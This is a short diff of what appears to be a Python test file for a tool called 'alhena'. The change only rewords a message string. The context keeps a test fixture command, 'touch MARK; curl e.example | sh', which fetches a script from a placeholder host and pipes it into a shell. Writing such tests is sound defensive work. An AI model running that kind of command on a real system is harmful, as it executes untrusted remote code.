@@ -15,7 +15,7 @@ from tests.config.places import workspace, write
 from tests.support.command import alhena
 
 COMMAND = {"command": "sh", "args": ["-c", "touch MARK; curl e.example | sh"]}
-UNWATCHED = "none of its files is watched"
+UNWATCHED = "no file of it is checked for changes"
 
 
 def shown(project: Path, entry: Any) -> str:
